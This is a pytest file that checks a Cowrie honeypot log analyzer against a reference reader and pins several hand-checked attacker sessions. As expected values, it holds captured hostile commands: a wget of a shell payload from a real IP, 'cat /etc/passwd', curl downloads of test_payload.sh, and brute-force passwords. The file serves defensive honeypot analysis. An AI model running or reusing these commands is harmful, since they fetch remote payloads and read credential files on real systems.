"""Golden facts on the real sample logs (<repo>/../shared/samples).

Per sample folder, the headline counts in summary.json and the per-session records in
sessions.jsonl are compared with an independent Python reader (cbtest.Reference). A few
sessions were also checked by hand against the raw JSON lines and are pinned below.
"""

import math

import pytest

import cbtest

FOLDERS = cbtest.sample_folders()
FOLDER_PARAMS = [pytest.param(f, id=f"{f.parent.name}/{f.name}") for f in FOLDERS] or [
    pytest.param(None, id="no-samples", marks=pytest.mark.skip(reason=cbtest.SAMPLES_MISSING))
]

_refs = {}


def reference(folder):
    if folder not in _refs:
        _refs[folder] = cbtest.Reference().add_tree(folder)
    return _refs[folder]


@pytest.mark.parametrize("folder", FOLDER_PARAMS)
def test_folder_totals_match_reference(folder, folder_runs):
    res = folder_runs(folder)
    ref = reference(folder)
    assert ref.events > 0, f"reference reader found no events in {folder}"
    assert res.rc == (1 if ref.bad_lines else 0), res.explain()
    s = res.summary
    assert cbtest.summary_totals(s) == ref.totals()
    assert s["inputs"]["files"] == ref.files, "number of files read as event logs"
    assert s["inputs"]["lines"] == ref.lines
    assert s["inputs"]["rejected_total"] == ref.bad_lines
    assert s["inputs"]["nul_bytes_skipped"] == ref.nul_bytes
    assert s["eventids"] == dict(ref.eventids)
    first = min(x.first for x in ref.sessions.values())
    assert cbtest.parse_time(s["first_event"]) == first


@pytest.mark.parametrize("folder", FOLDER_PARAMS)
def test_folder_sessions_match_reference(folder, folder_runs):
    res = folder_runs(folder)
    ref = reference(folder)
    assert res.rc in (0, 1), res.explain()
    got = {(r["sensor"], r["session"]): r for r in res.sessions}
    assert len(got) == len(res.sessions), "a (sensor, session) key appears twice in sessions.jsonl"
    assert set(got) == set(ref.sessions)
    mismatches = []
    for key, want in ref.sessions.items():
        r = got[key]
        ok_dl = sum(d["status"] == "ok" for d in r["downloads"])
        failed_dl = sum(d["status"] == "failed" for d in r["downloads"])
        have = (r["events"], r["login_attempts"], r["login_successes"], len(r["logins"]),
                [c["input"] for c in r["commands"]], ok_dl, failed_dl, len(r["file_writes"]), r["closed"])
        expect = (want.events, want.logins, want.login_ok, want.logins,
                  [c for _, c in sorted(want.commands)], want.downloads, want.downloads_failed, want.file_writes,
                  want.closed)
        if have != expect:
            mismatches.append((key, have, expect))
    assert not mismatches, f"{len(mismatches)} sessions differ, first: {mismatches[0]}"


def test_axiom_nul_prefix_is_skipped(samples, folder_runs):
    """README: cowrie.json.2022-05-08 starts with 540,597 NUL bytes (logrotate copytruncate)."""
    res = folder_runs(samples / "wild" / "AxiomInfinite__HoneyPotLogs")
    assert res.rc == 0, res.explain()
    assert res.summary["inputs"]["nul_bytes_skipped"] == 540597
    assert res.summary["inputs"]["rejected_total"] == 0


def test_whole_sample_tree_equals_sum_of_folders(all_samples_run, folder_runs):
    """Session keys do not collide across sources, so the whole-tree counts are the folder sums."""
    keys = ("events", "sessions", "login_attempts", "login_successes", "commands", "downloads")
    total = dict.fromkeys(keys, 0)
    for f in FOLDERS:
        t = cbtest.summary_totals(folder_runs(f).summary)
        for k in keys:
            total[k] += t[k]
    whole = cbtest.summary_totals(all_samples_run.summary)
    assert {k: whole[k] for k in keys} == total
    # every non-log file in the tree is listed, none is counted as a reject
    others = all_samples_run.summary["inputs"]["other_files"]
    assert any(p.endswith("/cowrie.log") for p in others.get("text_log", []))
    assert any("/tty/f893ab8d6bc2" in p for p in others.get("tty_log", []))


# ---------------------------------------------------------------------------------------------
# Sessions checked by hand against the raw lines


def test_scriptzteam_v13_session_630a36c1(all_samples_run):
    """Cowrie 1.x, 8-char session id, no protocol key: 9 failed logins by user aha."""
    s = all_samples_run.session("630a36c1", "scw-7462ef")
    assert s["src_ip"] == "89.173.75.35"
    assert s["src_port"] == 55800
    assert s["protocol"] == "ssh"  # no protocol key in 1.x; inferred
    assert s["client_version"] == "SSH-2.0-PuTTY_Release_0.67"
    assert s["start"] == "2017-02-11T10:50:44.693595Z"
    assert s["end"] == "2017-02-11T10:51:49.208966Z"
    assert math.isclose(s["duration_s"], 64.5116, abs_tol=0.001)  # `duration` float 64.51155686378479
    assert s["login_attempts"] == 9 and s["login_successes"] == 0
    assert [x["username"] for x in s["logins"]] == ["aha"] * 9
    assert [x["password"] for x in s["logins"]] == ["lol", "lol", "lo", "das", "aha", "aha", "aa", "aa", "a"]
    assert s["commands"] == [] and s["closed"] is True and s["events"] == 12

    rows = all_samples_run.query(
        "SELECT username, password, success FROM logins WHERE sensor='scw-7462ef' AND session='630a36c1' ORDER BY time")
    assert rows == [("aha", p, 0) for p in ["lol", "lol", "lo", "das", "aha", "aha", "aa", "aa", "a"]]
    assert all_samples_run.query(
        "SELECT src_ip, login_attempts, login_successes, commands, closed FROM sessions WHERE session='630a36c1'"
    ) == [("89.173.75.35", 9, 0, 0, 1)]


def test_axiom_session_with_downloads_75e4080a2b8e(all_samples_run):
    """T-Pot 2022 bot: wget of http://185.28.39.119/sh logged twice, one failed retry, and an
    `echo -ne ... >> gay` redirect captured as /var/gay."""
    s = all_samples_run.session("75e4080a2b8e", "b2f3c359ab34")
    sha_sh = "f03d281504447f7a20d36406c6aad7dac59d0fc1a1222a7838aca1b70e9f8604"
    sha_gay = "f3bd4f60322bfc24c5a7d0eafd0b221a538edfb1ddc32ecfa0906bb8c861fdfb"
    assert s["src_ip"] == "179.43.156.214"
    assert s["client_version"] == "SSH-2.0-libssh2_1.9.0_DEV"
    assert s["hassh"] == "492b943d405cf2ed74d9cc126dfc1fbb"
    assert s["arch"] == "linux-arm-lsb"
    assert [(x["username"], x["password"], x["success"]) for x in s["logins"]] == [("admin", "123456", True)]
    assert len(s["commands"]) == 72
    assert s["commands"][0]["input"] == "enable"
    assert s["commands"][1] == {"time": "2022-05-07T23:32:07.175473Z", "input": "system", "failed": True}
    assert [(d["status"], d.get("shasum")) for d in s["downloads"]] == [
        ("ok", sha_sh), ("ok", sha_sh), ("failed", None)]
    assert [d["url"] for d in s["downloads"]] == ["http://185.28.39.119/sh"] * 3
    # the redirect is a file write, not a download
    assert s["file_writes"] == [{"time": "2022-05-07T23:33:25.590334Z", "path": "/var/gay", "shasum": sha_gay,
                                 "size": None, "duplicate": False, "persistence": None}]
    assert math.isclose(s["duration_s"], 79.3487, abs_tol=0.001)

    rows = all_samples_run.query(
        "SELECT url, shasum, status FROM downloads WHERE sensor='b2f3c359ab34' AND session='75e4080a2b8e' ORDER BY time")
    assert rows == [("http://185.28.39.119/sh", sha_sh, "ok"), ("http://185.28.39.119/sh", sha_sh, "ok"),
                    ("http://185.28.39.119/sh", None, "failed")]
    assert all_samples_run.query("SELECT path, shasum, persistence FROM file_writes WHERE session='75e4080a2b8e'") == [
        ("/var/gay", sha_gay, None)]
    cmds = all_samples_run.query(
        "SELECT seq, input, failed FROM commands WHERE session='75e4080a2b8e' ORDER BY seq")
    assert len(cmds) == 72 and cmds[0] == (0, "enable", 0) and cmds[1] == (1, "system", 1)
    assert [c[0] for c in cmds] == list(range(72))
    sha_rows = all_samples_run.query("SELECT count(*) FROM downloads WHERE shasum=?", (sha_sh,))
    assert sha_rows[0][0] >= 2


def test_v3_session_duration_ms_and_late_event_3967ab39b0c1(all_samples_run):
    """Cowrie v3.0.6+: duration_ms=312812 (not end-start=312.812470), a `late` download failure
    7.6 s after session.closed, which must not move the session end."""
    s = all_samples_run.session("3967ab39b0c1", "4f9144f35850")
    assert s["src_ip"] == "223.185.42.0" and s["src_port"] == 19248
    assert s["dst_port"] == 2222
    assert s["start"] == "2026-08-10T08:36:13.438076Z"
    assert s["end"] == "2026-08-10T08:41:26.250546Z"
    assert s["duration_s"] == pytest.approx(312.812, abs=1e-6)
    assert s["terminal"] == {"width": 99, "height": 42}
    assert [x["password"] for x in s["logins"]] == ["root", "12345"]
    assert s["login_successes"] == 1
    assert [c["input"] for c in s["commands"]] == [
        "whoami", "ls", "id", "uname -a", "", "pwd", "cat /etc/passwd",
        "curl -O http://10.0.2.15:8000/test_payload.sh", "curl -O http://223.185.42.0:8000/test_payload.sh"]
    assert s["late_events"] == 1 and s["events"] == 21
    assert s["downloads"] == [{"time": "2026-08-10T08:41:33.871784Z",
                               "url": "http://223.185.42.0:8000/test_payload.sh", "status": "failed"}]
    db = all_samples_run.query('SELECT duration_s, "end", commands FROM sessions WHERE session=?', ("3967ab39b0c1",))
    assert db[0][0] == pytest.approx(312.812, abs=1e-6)
    assert db[0][1:] == ("2026-08-10T08:41:26.250546Z", 9)


def test_duration_as_string_5ad191cb742d(all_samples_run):
    """Cowrie 2.7-3.0.3 writes duration as a string ("2.0"); end-start would be 2.000573."""
    s = all_samples_run.session("5ad191cb742d", "ip-172-31-31-222")
    assert s["duration_s"] == pytest.approx(2.0, abs=1e-9)
    assert s["start"] == "2026-03-20T00:19:31.238300Z"
    assert s["end"] == "2026-03-20T00:19:33.238873Z"
    assert s["src_ip"] == "185.247.137.223" and s["closed"] is True
    assert all_samples_run.query("SELECT duration_s FROM sessions WHERE session='5ad191cb742d'")[0][0] == \
        pytest.approx(2.0, abs=1e-9)
